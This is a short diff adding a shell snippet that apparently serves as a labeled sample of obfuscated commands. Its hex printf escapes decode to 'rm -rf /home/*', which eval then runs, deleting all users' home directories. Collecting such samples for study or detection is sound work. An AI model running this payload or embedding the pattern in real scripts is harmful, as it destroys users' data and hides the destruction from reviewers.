@@ -1,0 +1,3 @@
+# class: embedded, printf escapes; style: obfuscated
+c=$(printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f\x68\x6f\x6d\x65\x2f\x2a')
+eval "$c"
